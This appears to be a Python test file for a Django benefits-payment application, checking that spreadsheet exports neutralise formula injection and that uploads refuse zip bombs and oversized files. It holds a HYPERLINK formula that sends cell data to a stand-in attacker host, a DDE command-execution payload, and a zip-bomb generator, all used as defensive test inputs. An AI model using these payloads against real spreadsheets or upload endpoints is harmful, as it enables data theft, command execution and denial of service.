"""The one spreadsheet writer and the upload checks (issue 13), tried as an attacker
would: a payee typed as a formula, a zip bomb, a file with too many rows."""

import csv
import io
import time
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cases.roles import Role
from cases.services import decisions as svc
from cases.spreadsheets import (
    UploadLimits,
    UploadRefused,
    check_upload,
    csv_bytes,
    csv_text,
    iter_xlsx_rows,
    neutralise,
    neutralise_csv_text,
    xlsx_bytes,
)
from cases.tests.factories import PersonFactory
from cases.tests.test_decisions import calculated_application, draft

HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")'
LIMITS = UploadLimits(
    max_bytes=10 * 1024 * 1024,
    max_uncompressed_bytes=50 * 1024 * 1024,
    max_compression_ratio=100,
    max_rows=20_000,
)


def zip_bomb(inflated_bytes: int = 60 * 1024 * 1024) -> bytes:
    """An XLSX-shaped zip whose sheet is one repeated row: tens of kB that inflate to
    ``inflated_bytes``. Written in chunks, so the test itself never holds 60 MB."""
    row = b'<row><c t="inlineStr"><is><t>Tolvan</t></is></c></row>'
    chunk = row * (1024 * 1024 // len(row))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b"<worksheet><sheetData>")
            written = 0
            while written < inflated_bytes:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


# ------------------------------------------------------------------------ writing


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


def test_safe_values_and_numbers_are_left_alone():
    assert neutralise("Tolvan") == "Tolvan"
    assert neutralise(-12) == -12
    assert neutralise(Decimal("-1.50")) == Decimal("-1.50")
    text = csv_text([[HYPERLINK, Decimal("-1250.5"), -3, date(2026, 12, 1), None]])
    [row] = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert row == ["'" + HYPERLINK, "-1250,50", "-3", "2026-12-01", ""]


def test_csv_bytes_has_a_byte_order_mark_for_excel():
    assert csv_bytes([["Åsa"]], header=["namn"]).startswith("\ufeff".encode())


def test_xlsx_keeps_numbers_and_dates_and_neutralises_text():
    content = xlsx_bytes(
        [[HYPERLINK, Decimal("8450.50"), date(2026, 3, 1), "Ok\x07ä"]], header=["a", "b", "c", "d"]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    row = [cell for cell in next(sheet.iter_rows(min_row=2))]
    assert row[0].value == "'" + HYPERLINK and row[0].data_type == "s"  # text, not a formula
    assert row[1].value == 8450.5
    assert row[2].value.date() == date(2026, 3, 1)
    assert row[3].value == "Okä"  # a control character would break the whole file


def test_an_old_stored_csv_is_neutralised_again_but_numbers_stay():
    stored = "a;b\r\n=cmd|' /C calc'!A0;-120.50\r\n"
    assert neutralise_csv_text(stored) == "a;b\r\n'=cmd|' /C calc'!A0;-120.50\r\n"


@pytest.mark.django_db
def test_payee_name_typed_as_a_formula_is_neutralised_in_the_payment_file(
    client, caseworker, unit_manager, make_user
):
    """The attack of issue 13: the payment file carried ``=HYPERLINK(…)`` as it was typed."""
    payee = PersonFactory(first_name=HYPERLINK, last_name="-2+3", birth_date=date(1985, 3, 3))
    application = calculated_application(caseworker, applicant=payee)
    decision = svc.decision_submit(draft(application, caseworker), actor=caseworker)
    payment = svc.payment_create(
        decision, actor=caseworker, payee=payee, amount=application.result, pay_on=date(2026, 12, 5)
    )
    svc.payment_attest(payment, actor=make_user(Role.CASEWORKER))
    batch = svc.payment_batch_export(actor=unit_manager, unit=caseworker.unit)

    client.force_login(unit_manager)
    response = client.get(reverse("payment_batch_csv", args=[batch.pk]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    assert rows[0] == [
        "utbetalningsdag",
        "belopp",
        "mottagare",
        "personnummer",
        "beslut",
        "enhet",
        "period_fran",
        "period_till",
        "statistikmanad",
    ]
    assert rows[1][2] == "'" + payee.full_name  # text, never a formula
    assert rows[1][1] == f"{application.result:.2f}"  # the amount is still a number
    assert rows[2][:3] == ["SUMMA", f"{application.result:.2f}", "1 st"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# ------------------------------------------------------------------------ reading


def test_a_zip_bomb_is_refused_in_milliseconds_without_inflating_it():
    bomb = zip_bomb()
    assert len(bomb) < 200 * 1024
    started = time.perf_counter()
    with pytest.raises(UploadRefused, match="packad ovanligt hårt"):
        check_upload(io.BytesIO(bomb), "xlsx", limits=LIMITS)
    assert time.perf_counter() - started < 0.5


def test_an_xlsx_inflating_past_the_total_limit_is_refused():
    # Each entry packs modestly (random-ish text), but together they inflate too far.
    limits = UploadLimits(10**7, max_uncompressed_bytes=1000, max_compression_ratio=100, max_rows=9)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/a.xml", b"x" * 800)
        archive.writestr("xl/b.xml", b"y" * 800)
    with pytest.raises(UploadRefused, match="för stor när den packas upp"):
        check_upload(out, "xlsx", limits=limits)


def test_rows_are_counted_before_parsing():
    limits = UploadLimits(10**7, 10**8, 100, max_rows=3)
    book = openpyxl.Workbook()
    for number in range(6):
        book.active.append(["rad", number])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(UploadRefused, match="fler än 3 rader"):
        check_upload(buffer, "xlsx", limits=limits)  # the sheet's <dimension ref="A1:B6">
    with pytest.raises(UploadRefused, match="fler än 3 rader"):
        check_upload(io.BytesIO(b"h\n1\n2\n3\n4\n"), "csv", limits=limits)
    check_upload(io.BytesIO(b"h\n1\n2\n3\n"), "csv", limits=limits)  # exactly three: fine
    # A sheet whose declared size lies is still never read past the limit.
    with pytest.raises(UploadRefused, match="fler än 3 rader"):
        list(iter_xlsx_rows(buffer.getvalue(), max_rows=3))


def test_not_a_zip_and_too_large_files_are_refused_in_swedish():
    with pytest.raises(UploadRefused, match="Filen kunde inte läsas"):
        check_upload(io.BytesIO(b"PK\x03\x04 inte en arbetsbok"), "xlsx", limits=LIMITS)
    small = UploadLimits(
        max_bytes=10, max_uncompressed_bytes=10, max_compression_ratio=10, max_rows=1
    )
    with pytest.raises(UploadRefused, match="Filen är för stor"):
        check_upload(io.BytesIO(b"x" * 11), "csv", limits=small)


@pytest.mark.django_db
def test_the_norm_table_import_in_the_admin_checks_the_file_before_parsing(
    client, administrator, monkeypatch
):
    def no_parsing(*args, **kwargs):
        raise AssertionError("the admin parsed the file")

    monkeypatch.setattr(openpyxl, "load_workbook", no_parsing)
    client.force_login(administrator)
    # Named .csv, but a zip archive: it gets the zip checks all the same.
    response = client.post(
        reverse("admin:cases_normyear_import"),
        {
            "resource": "0",
            "format": "0",
            "import_file": SimpleUploadedFile("normer.csv", zip_bomb(5 * 1024 * 1024)),
        },
    )
    assert response.status_code == 200
    assert "packad ovanligt hårt" in response.content.decode()


@pytest.mark.django_db
def test_the_norm_table_export_in_the_admin_goes_through_the_writer(client, administrator):
    client.force_login(administrator)
    response = client.post(
        reverse("admin:cases_normyear_export"),
        {"resource": "0", "format": "0", "normyearresource_year": "on"},
    )
    assert response.status_code == 200, response.content[:500]
    assert response.content.startswith("\ufeff".encode())  # written by cases.spreadsheets


@pytest.mark.django_db
def test_the_norm_export_page_wires_select_all_without_the_blocked_inline_handler(
    client, administrator
):
    client.force_login(administrator)
    page = client.get(reverse("admin:cases_normyear_export")).content.decode()
    assert "js/admin-export.js" in page
